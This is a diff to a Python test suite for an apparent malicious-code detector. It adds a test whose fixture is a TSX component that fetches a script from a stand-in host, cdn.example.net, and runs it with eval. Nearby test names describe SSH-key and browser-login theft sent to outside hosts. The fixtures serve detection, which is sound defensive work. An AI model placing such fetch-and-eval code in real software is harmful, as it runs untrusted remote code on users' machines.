@@ -50,6 +50,18 @@ def test_ssh_key_read_through_homedir_and_path_join_is_sent_to_an_assembled_host
     assert chain(found, Kind.EGRESS) == [(4, "reads SSH keys (~/.ssh)"), (6, "sends it to collect.example.net")]
 
 
+def test_tsx_component_fetching_code_to_eval(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "export function Panel(): JSX.Element {\n"
+        "  fetch('https://cdn.example.net/w.js').then((r) => r.text()).then((t) => eval(t));\n"
+        '  return <div className="p">{(1 as number).toString()}</div>;\n'
+        "}\n",
+        name="src/Panel.tsx",
+    )
+    assert (Kind.EXEC_FETCHED, "https://cdn.example.net/w.js") in summary(found)
+
+
 def test_browser_logins_under_localappdata_read_in_a_callback_and_posted(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
